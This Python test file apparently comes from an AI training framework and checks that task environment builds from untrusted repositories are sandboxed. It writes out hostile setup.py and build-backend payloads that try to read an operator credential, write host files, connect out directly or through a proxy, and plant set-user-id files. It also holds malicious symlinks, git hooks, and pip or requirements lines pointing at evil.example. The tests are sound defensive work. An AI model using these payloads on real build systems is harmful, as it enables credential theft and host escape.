"""Preparing a task from data off the internet: the repository's `setup.py` or in-tree build
backend, a record's `pip_packages` and requirements files, a run config's sources. Each
attack goes through a public entry point — `python_environment`, which rollout workers, the
trainer and the reward service prepare a task's environment with; the gateway over HTTP;
`etude train` — and each test asserts the attack failed and the service still works after.

Builds are offline (a wheelhouse, or a package index served on this host's loopback) except
the one through PyPI, which is skipped where PyPI cannot be reached.
"""

from __future__ import annotations

import contextlib
import functools
import json
import re
import socket
import stat
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from etude.cli.app import app as cli_app
from etude.cli.stack import LocalStack, ServiceSpec
from etude.common.auth import bearer_header
from etude.common.settings import EtudeSettings, StackSettings, get_settings
from etude.sandbox.bwrap import find_bwrap
from etude.tasks.materialize import build_buggy_repository
from etude.tasks.provisioning import TaskProvisioning, python_environment
from etude.tasks.pyenv import EnvironmentBuildError, PackageSource
from etude.tasks.sources import RepositorySources
from etude.tasks.synth.sources import opened
from etude.tasks.task import Setup, Task
from tests.conftest import skip_without_sandboxes
from tests.tasks.conftest import write_tiny_project
from tests.tasks.tiny_projects import (
    PYPROJECT,
    make_project,
    tinydep_wheelhouse,
    wheel_of_installed,
)
from tests.tasks.upstream import git

# Runs inside the build (from `setup.py`, or when pip imports the build backend): tries
# each way out and prints what happened, then fails the build so pip shows it.
ATTACK = r"""
import os, socket, sys


def _try(what, action):
    try:
        result = action()
    except BaseException as error:
        return f"{what}=refused({type(error).__name__})"
    return f"{what}=DONE({str(result)[:80]!r})"


def _write_marker():
    with open(@MARKER@, "w") as out:
        out.write("escaped")
    return "written"


def _read(path):
    with open(path, "rb") as handle:
        return handle.read().replace(b"\0", b" ").decode(errors="replace")


def _connect(host, port):
    socket.create_connection((host, port), timeout=3).close()
    return "connected"


def _through_proxy(host, port):
    proxy = os.environ.get("HTTPS_PROXY")
    if not proxy:
        raise LookupError("no proxy")
    address, _, number = proxy.removeprefix("http://").partition(":")
    with socket.create_connection((address, int(number)), timeout=5) as relay:
        relay.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode())
        status = relay.recv(200).split(b"\r\n")[0].decode()
    if " 200 " not in f"{status} ":
        raise PermissionError(status)
    return status


_results = [
    _try("marker", _write_marker),
    _try("operator", lambda: _read(@OPERATOR@)),
    _try("proc1", lambda: _read("/proc/1/cmdline")),
    _try("uid", os.getuid),
    _try("loopback", lambda: _connect("127.0.0.1", @PORT@)),
    _try("internet", lambda: _connect("pypi.org", 443)),
    _try("proxy-loopback", lambda: _through_proxy("127.0.0.1", @PORT@)),
    _try("proxy-internet", lambda: _through_proxy("example.com", 443)),
]
sys.stderr.write("ATTACK " + " | ".join(_results) + " END\n")
raise SystemExit(1)
"""
SETUP_PY = "from setuptools import setup\n" + ATTACK + "\nsetup(name='evil', version='1.0')\n"
# An in-tree PEP 517 backend: pip imports it in the build's subprocess.
BACKEND_PY = ATTACK + "\ndef build_wheel(*args, **kwargs):\n    raise RuntimeError\n"


@pytest.fixture(scope="module")
def bwrap():
    with skip_without_sandboxes():
        return find_bwrap(None)


@pytest.fixture(scope="module")
def wheelhouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """tinydep 1.0, and setuptools (what a `setup.py` builds with), as wheels."""
    house = tinydep_wheelhouse(tmp_path_factory.mktemp("packages"))
    wheel_of_installed("setuptools", house)
    return house


@dataclass
class Host:
    """What an attack reaches for on the host."""

    marker: Path
    """A file in a host directory the build must not write."""
    operator: Path
    """The operator's credential."""
    listener: socket.socket
    """A TCP port on the host's loopback, like Redis's or a gRPC service's."""

    def connections(self) -> int:
        """Connections the listener took since the last call."""
        self.listener.setblocking(False)
        count = 0
        with contextlib.suppress(BlockingIOError):
            while True:
                self.listener.accept()[0].close()
                count += 1
        return count


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    (tmp_path / "host-dir").mkdir()
    operator = get_settings().auth.tokens_dir / "operator"
    assert operator.read_text().strip()  # the credential the attack is after is there
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield Host(tmp_path / "host-dir" / "marker", operator, listener)


def committed(root: Path) -> str:
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "initial")
    return git(root, "rev-parse", "HEAD").stdout.strip()


def attack_task(checkouts: Path, how: str, host: Host, **setup) -> Task:
    """acme/evil, whose `setup.py` (how="setup.py") or in-tree build backend ("backend")
    runs ATTACK against `host`."""
    root = checkouts / "acme__evil"
    root.mkdir(parents=True)
    code = ATTACK_FOR[how].replace("@MARKER@", repr(str(host.marker)))
    code = code.replace("@OPERATOR@", repr(str(host.operator)))
    code = code.replace("@PORT@", str(host.listener.getsockname()[1]))
    if how == "setup.py":
        (root / "setup.py").write_text(code)
    else:
        (root / "pyproject.toml").write_text(PYPROJECT)
        (root / "backend.py").write_text(code)
    (root / "evil.py").write_text("")
    return task_of("acme/evil", committed(root), **setup)


ATTACK_FOR = {"setup.py": SETUP_PY, "backend": BACKEND_PY}


def task_of(repo: str, commit: str, **setup) -> Task:
    return Task(
        id=f"{repo.replace('/', '__')}-1", repo=repo, base_commit=commit, instruction="Fix it.",
        test_patch="", fail_to_pass=(), pass_to_pass=(), setup=Setup(**setup),
    )  # fmt: skip


def benign_task(checkouts: Path) -> Task:
    """acme/tiny, a project that needs tinydep."""
    root = checkouts / "acme__tiny"
    make_project(root, "tiny", "tinydep>=1.0", {
        "tiny/__init__.py": "from tinydep import double\n\nANSWER = double(21)\n",
    }, "src")  # fmt: skip
    return task_of("acme/tiny", committed(root))


def provisioning(checkouts: Path, packages: PackageSource) -> TaskProvisioning:
    return TaskProvisioning(RepositorySources(checkouts=(checkouts,)), packages, "auto")


def attack_report(error: EnvironmentBuildError) -> dict[str, str]:
    """What ATTACK printed inside the build: way → `refused(…)` or `DONE(…)`."""
    found = re.search(r"ATTACK (.*?) END", str(error), re.S)
    assert found, str(error)
    return dict(item.strip().split("=", 1) for item in found[1].split(" | "))


def assert_nothing_got_out(report: dict[str, str], error: Exception, host: Host) -> None:
    """The attack ran (its report is there) and every way out failed."""
    assert report["marker"].startswith("refused") and not host.marker.exists()
    assert report["operator"].startswith("refused")
    assert host.operator.read_text().strip() not in str(error)
    # /proc is the sandbox's own: its first process is bubblewrap, not the host's init.
    assert report["proc1"].startswith("DONE('bwrap"), report["proc1"]
    assert report["uid"] == "DONE('1000')"  # not root, though the service may be
    for way in ("loopback", "internet", "proxy-loopback", "proxy-internet"):
        assert report[way].startswith("refused"), (way, report[way])
    assert host.connections() == 0


def assert_builds(task: Task, packages: PackageSource, cache: Path, checkouts: Path) -> None:
    """The service still builds a benign project's environment, with its dependency."""
    root = python_environment(task, provisioning(checkouts, packages), cache)
    assert root is not None
    marker = json.loads((root / "etude-environment.json").read_text())
    assert marker["installed"] == ["tinydep==1.0"], marker
    ran = subprocess.run(
        [str(root / "bin" / "python"), "-c", "import tinydep; print(tinydep.double(21))"],
        cwd=cache, capture_output=True, text=True,
    )  # fmt: skip
    assert ran.stdout.strip() == "42", ran.stderr


@pytest.mark.parametrize("how", ["setup.py", "backend"])
def test_a_repository_s_build_code_reaches_nothing_of_the_host(
    tmp_path, bwrap, wheelhouse, host, how
):
    checkouts, cache = tmp_path / "checkouts", tmp_path / "cache"
    task = attack_task(checkouts, how, host)
    packages = PackageSource(wheelhouse)
    with pytest.raises(EnvironmentBuildError) as raised:
        python_environment(task, provisioning(checkouts, packages), cache)
    assert_nothing_got_out(attack_report(raised.value), raised.value, host)
    assert [p.name for p in (cache / "envs").iterdir() if not p.name.endswith(".lock")] == []
    assert_builds(benign_task(checkouts), packages, cache, checkouts)


@contextlib.contextmanager
def local_index(wheelhouse: Path, directory: Path) -> Iterator[str]:
    """A PEP 503 package index of the wheelhouse, served on this host's loopback; its URL."""
    for wheel in wheelhouse.glob("*.whl"):
        name = re.sub(r"[-_.]+", "-", wheel.name.split("-")[0]).lower()
        page = directory / "simple" / name / "index.html"
        page.parent.mkdir(parents=True, exist_ok=True)
        page.write_text(f'<a href="/files/{wheel.name}">{wheel.name}</a>\n')
        (directory / "files").mkdir(exist_ok=True)
        (directory / "files" / wheel.name).write_bytes(wheel.read_bytes())
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(directory))
    handler.log_message = lambda *args: None  # type: ignore[method-assign]
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/simple/"
    finally:
        server.shutdown()
        server.server_close()


def test_through_an_index_the_build_reaches_the_index_and_nothing_else(
    tmp_path, bwrap, wheelhouse, host
):
    """The index is on this host's loopback here, as a devpi beside the services would be:
    the proxy lets the build reach that port and no other of the host."""
    checkouts, cache = tmp_path / "checkouts", tmp_path / "cache"
    task = attack_task(checkouts, "backend", host)
    with local_index(wheelhouse, tmp_path / "index") as url:
        packages = PackageSource(index_url=url)
        with pytest.raises(EnvironmentBuildError) as raised:
            python_environment(task, provisioning(checkouts, packages), cache)
        report = attack_report(raised.value)
        assert report["proxy-loopback"] == "refused(PermissionError)"  # the proxy said 403
        assert_nothing_got_out(report, raised.value, host)
        assert_builds(benign_task(checkouts), packages, cache, checkouts)


def pypi_reachable() -> bool:
    try:
        with urllib.request.urlopen("https://pypi.org/simple/iniconfig/", timeout=10):
            return True
    except (OSError, urllib.error.URLError):
        return False


@pytest.mark.skipif(not pypi_reachable(), reason="PyPI is unreachable from this host")
def test_through_pypi_the_build_reaches_pypi_and_nothing_else(tmp_path, bwrap, host):
    checkouts, cache = tmp_path / "checkouts", tmp_path / "cache"
    task = attack_task(checkouts, "backend", host)
    with pytest.raises(EnvironmentBuildError) as raised:
        python_environment(task, provisioning(checkouts, PackageSource()), cache)
    report = attack_report(raised.value)
    assert report["proxy-internet"] == "refused(PermissionError)"
    assert_nothing_got_out(report, raised.value, host)
    root = checkouts / "acme__plain"
    make_project(root, "plain", "iniconfig==2.0.0", {"plain/__init__.py": ""}, ".")
    built = python_environment(
        task_of("acme/plain", committed(root)), provisioning(checkouts, PackageSource()), cache
    )
    assert built is not None
    marker = json.loads((built / "etude-environment.json").read_text())
    assert marker["installed"] == ["iniconfig==2.0.0"]


PIP_ARGUMENTS = {
    "target": ["--target", "@DIR@"], "target=": ["--target=@DIR@"], "log": ["--log", "@FILE@"],
    "log=": ["--log=@FILE@"], "r": ["-r", "@SECRET@"], "r-attached": ["-r@SECRET@"],
    "r-after-one": ["tinydep", "-r @SECRET@"], "path": ["@SECRET@"], "url": ["file://@SECRET@"],
    "direct-reference": ["tinydep @ file://@SECRET@"], "archive": ["evil.tar.gz"],
}  # fmt: skip
"""`pip_packages` that are pip options, paths or URLs rather than package requirements."""


def test_pip_packages_and_packages_are_package_requirements_only(tmp_path, bwrap, wheelhouse):
    checkouts, cache = tmp_path / "checkouts", tmp_path / "cache"
    target, log, secret = tmp_path / "target", tmp_path / "pip.log", tmp_path / "secret.txt"
    secret.write_text("hunter2-secret-content\n")
    placeholders = {"@DIR@": str(target), "@FILE@": str(log), "@SECRET@": str(secret)}
    benign = benign_task(checkouts)
    attacks = [("pip_packages", name, entries) for name, entries in PIP_ARGUMENTS.items()]
    attacks.append(("packages", "packages", "tinydep --target @DIR@"))  # SWE-bench's names
    for field, name, entries in attacks:
        for placeholder, path in placeholders.items():
            entries = (
                [e.replace(placeholder, path) for e in entries]
                if isinstance(entries, list)
                else entries.replace(placeholder, path)
            )
        task = Task.from_swe({**benign.to_swe(), field: entries})
        with pytest.raises(EnvironmentBuildError) as raised:
            python_environment(task, provisioning(checkouts, PackageSource(wheelhouse)), cache)
        message = str(raised.value)
        assert f"{field} entry" in message and task.id in message, (name, message)
        assert "hunter2" not in message, name
        assert not target.exists() and not log.exists(), name
        built = [p for p in (cache / "envs").iterdir() if not p.name.endswith(".lock")]
        assert built == [], name
    assert_builds(benign, PackageSource(wheelhouse), cache, checkouts)


REQUIREMENTS_LINES = {
    "-r @SECRET@": "outside the repository",
    "-c ../../secret.txt": "outside the repository",
    "--index-url http://evil.example/simple": "not allowed",
    "--extra-index-url=http://evil.example": "not allowed",
    "--find-links /": "not allowed",
    "--target /tmp/x": "not allowed",
    "--pre --trusted-host evil.example": "not allowed",
    "-e /": "not a directory of the repository",
    "-e git+https://evil.example/x.git#egg=x": "not a directory of the repository",
    "-r ${HOME}/x.txt": "names a variable",
}
"""Lines of a repository's requirements file that reach out of it or choose a package
source, and what the refusal says."""


def test_a_requirements_file_may_not_choose_sources_or_reach_out(tmp_path, bwrap, wheelhouse):
    checkouts, cache = tmp_path / "checkouts", tmp_path / "cache"
    secret = tmp_path / "secret.txt"
    secret.write_text("hunter2-secret-content\n")
    root = checkouts / "acme__reqs"
    make_project(root, "reqs", "", {"reqs/__init__.py": ""}, ".")
    (root / "requirements").mkdir()
    lines = list(REQUIREMENTS_LINES)
    for number, line in enumerate(lines):
        hostile = line.replace("@SECRET@", str(secret))
        (root / "requirements" / f"{number}.txt").write_text(f"tinydep\n{hostile}\n")
    (root / "requirements" / "fine.txt").write_text("tinydep  # the tests need it\n-r base.txt\n")
    (root / "requirements" / "base.txt").write_text("--prefer-binary\n")
    commit = committed(root)
    for number, line in enumerate(lines):
        task = task_of("acme/reqs", commit, reqs_path=(f"requirements/{number}.txt",))
        why = re.escape(REQUIREMENTS_LINES[line])
        with pytest.raises(EnvironmentBuildError, match=why) as raised:
            python_environment(task, provisioning(checkouts, PackageSource(wheelhouse)), cache)
        assert "hunter2" not in str(raised.value)
    fine = task_of("acme/reqs", commit, reqs_path=("requirements/fine.txt",))
    built = python_environment(fine, provisioning(checkouts, PackageSource(wheelhouse)), cache)
    assert built is not None
    marker = json.loads((built / "etude-environment.json").read_text())
    assert marker["installed"] == ["tinydep==1.0"]  # the project itself taken out again


def test_a_symlink_in_the_repository_brings_nothing_of_the_host_into_the_build(
    tmp_path, bwrap, wheelhouse, host
):
    """A repository may hold a symlink to any path; copying it for the build must not copy
    what it points at."""
    checkouts, cache = tmp_path / "checkouts", tmp_path / "cache"
    root = checkouts / "acme__evil"
    root.mkdir(parents=True)
    (root / "pyproject.toml").write_text(PYPROJECT)
    (root / "stolen").symlink_to(host.operator)
    reads = "import sys\nsys.stderr.write('ATTACK stolen=DONE(%r) END\\n' % open('stolen').read())"
    (root / "backend.py").write_text(f"{reads}\nraise SystemExit(1)\n")
    task = task_of("acme/evil", committed(root))
    with pytest.raises(EnvironmentBuildError) as raised:
        python_environment(task, provisioning(checkouts, PackageSource(wheelhouse)), cache)
    message = str(raised.value)
    assert "FileNotFoundError" in message and "stolen=DONE('" not in message, message
    assert host.operator.read_text().strip() not in message


# Finds the environment being built (pip's `--python`, in the sandbox's /proc) and leaves a
# set-user-id program in it: on the host the file is the service's user's, root's if the
# service runs as root.
SET_USER_ID = """
import glob, os
for _cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        _words = open(_cmdline, "rb").read().split(b"\\0")
    except OSError:
        continue
    if b"--python" in _words:
        _root = os.path.dirname(os.path.dirname(_words[_words.index(b"--python") + 1].decode()))
        with open(os.path.join(_root, "bin", "escalate"), "w") as _out:
            _out.write("#!/bin/sh\\nid\\n")
        os.chmod(os.path.join(_root, "bin", "escalate"), 0o6755)
"""


def test_no_set_user_id_file_the_build_leaves_survives_it(tmp_path, bwrap, wheelhouse):
    checkouts, cache = tmp_path / "checkouts", tmp_path / "cache"
    root = checkouts / "acme__tiny"
    make_project(root, "tiny", "tinydep>=1.0", {"tiny/__init__.py": ""}, ".")
    (root / "backend.py").write_text(SET_USER_ID + (root / "backend.py").read_text())
    task = task_of("acme/tiny", committed(root))
    built = python_environment(task, provisioning(checkouts, PackageSource(wheelhouse)), cache)
    assert built is not None
    assert (built / "bin" / "escalate").is_file()  # the build's code did leave it
    special = [
        str(path) for path in built.rglob("*")
        if not path.is_symlink() and path.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID)
    ]  # fmt: skip
    assert special == []


def test_a_project_s_own_git_configuration_and_symlinks_reach_nothing(tmp_path, host):
    """A project given by path (`etude tasks synth --path`, a run's `tasks.sources.projects`)
    is listed with git when it is a repository: its `.git/config` is the project's, and may
    name programs for git to run; its files may be symlinks to anywhere."""
    root = write_tiny_project(tmp_path / "mathbits")
    program = tmp_path / "program.sh"
    program.write_text(f"#!/bin/sh\necho ran >> {host.marker}\n")
    program.chmod(0o755)
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    for hook in ("post-index-change", "reference-transaction", "post-checkout"):
        (hooks / hook).symlink_to(program)
    (root / "leak.txt").symlink_to(host.operator)
    committed(root)
    git(root, "config", "core.fsmonitor", str(program))
    git(root, "config", "core.hooksPath", str(hooks))
    with opened(root) as project:
        assert "mathbits/core.py" in project.files and "tests/test_core.py" in project.files
        assert "leak.txt" not in project.files
        copy = tmp_path / "copy"
        build_buggy_repository(project, "", copy)
    assert not host.marker.exists()
    assert not (copy / "leak.txt").exists()


# -- where a run's tasks come from -------------------------------------------------------

OPERATOR = bearer_header(get_settings().auth, "operator")


def call(url: str, body: dict) -> tuple[int, dict]:
    data = json.dumps(body).encode()
    headers = {"Content-Type": "application/json", **OPERATOR}
    request = urllib.request.Request(url, data=data, method="POST", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as reply:
            return reply.status, json.loads(reply.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """`python -m etude.gateway` of a local stack (its run directory a fresh one, Redis
    beside it), as `etude up` starts it; (its URL, the run directory)."""
    run_dir = tmp_path_factory.mktemp("stack")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ETUDE_GATEWAY__LAUNCHER", "none")  # runs are only recorded
        settings = EtudeSettings(stack=StackSettings(run_dir=run_dir, ready_timeout_seconds=60))
        spec = ServiceSpec("gateway", (sys.executable, "-m", "etude.gateway"), http=True)
        stack = LocalStack(settings, (spec,))
        stack.start()
        try:
            [component] = [c for c in stack.state.components if c.name == "gateway"]
            yield component.http_url, run_dir
        finally:
            stack.stop()


@pytest.mark.integration
def test_the_gateway_refuses_sources_that_reach_the_stack_s_own_directories(gateway):
    url, run_dir = gateway
    (run_dir / "auth").mkdir(exist_ok=True)
    (run_dir / "environment" / "sessions").mkdir(parents=True, exist_ok=True)
    (run_dir / "repos").mkdir(exist_ok=True)
    link = run_dir / "repos" / "looks-fine"
    if not link.is_symlink():
        link.symlink_to(run_dir / "environment" / "sessions")
    sessions = str(run_dir / "environment" / "sessions")
    attacks = {
        "tasks.packages.wheelhouse": {"packages": {"wheelhouse": str(run_dir / "auth")}},
        "tasks.packages.wheelhouse ": {"packages": {"wheelhouse": str(run_dir)}},  # holds auth/
        "tasks.sources.repositories[acme/x]": {"sources": {"repositories": {"acme/x": sessions}}},
        "tasks.sources.checkouts[0]": {"sources": {"checkouts": [sessions]}},
        "tasks.sources.projects[0]": {"sources": {"projects": [str(run_dir / "redis")]}},
        "tasks.sources.checkouts[0] ": {"sources": {"checkouts": ["repos/looks-fine"]}},
        "tasks.sources.repositories[acme/y]": {"sources": {"repositories": {"acme/y": "logs"}}},
    }
    for field, tasks in attacks.items():
        config = {"tasks": {"environments": "off", "train_limit": 1, **tasks}}
        status, reply = call(f"{url}/runs", {"config": config, "run_id": "attack"})
        assert status == 422, (field, reply)
        assert field.strip() in json.dumps(reply), (field, reply)
    assert urllib.request.urlopen(f"{url}/health", timeout=10).status == 200
    fine = {"tasks": {"environments": "off", "train_limit": 1,
                      "sources": {"repositories": {"acme/x": "repos/x"}},
                      "packages": {"wheelhouse": "wheels"}}}  # fmt: skip
    status, reply = call(f"{url}/runs", {"config": fine, "run_id": "fine"})
    assert status == 201, reply


def test_etude_train_refuses_sources_that_reach_the_stack_s_own_directories(tmp_path, monkeypatch):
    """Runs started without the gateway (`etude train CONFIG`) are refused before anything
    starts."""
    monkeypatch.setenv("ETUDE_STACK__RUN_DIR", str(tmp_path / "stack"))
    get_settings.cache_clear()
    try:
        config = tmp_path / "run.yaml"
        config.write_text(yaml.safe_dump({"tasks": {"packages": {
            "wheelhouse": str(tmp_path / "stack" / "auth")}}}))  # fmt: skip
        result = CliRunner().invoke(cli_app, ["train", str(config)])
        assert result.exit_code == 2, result.output
        assert "tasks.packages.wheelhouse" in result.output
        tokens = get_settings().auth.tokens_dir
        config.write_text(yaml.safe_dump({"tasks": {"sources": {"checkouts": [str(tokens)]}}}))
        result = CliRunner().invoke(cli_app, ["train", str(config)])
        assert result.exit_code == 2 and "tasks.sources.checkouts[0]" in result.output
    finally:
        get_settings.cache_clear()


def test_a_registered_source_that_now_reaches_the_stack_s_own_directories_is_refused(tmp_path):
    """What a run registered is checked again where it is read, with that process's stack:
    a symlink under the sources that was swapped after the run started finds nothing."""
    tokens = get_settings().auth.tokens_dir
    link = tmp_path / "mirrors"
    link.symlink_to(tokens)
    document = provisioning(tmp_path, PackageSource()).to_json() | {"checkouts": [str(link)]}
    with pytest.raises(ValueError, match=r"tasks\.sources\.checkouts\[0\]"):
        TaskProvisioning.from_json(document)
    fine = provisioning(tmp_path / "elsewhere", PackageSource()).to_json()
    assert TaskProvisioning.from_json(fine).sources.checkouts == (tmp_path / "elsewhere",)
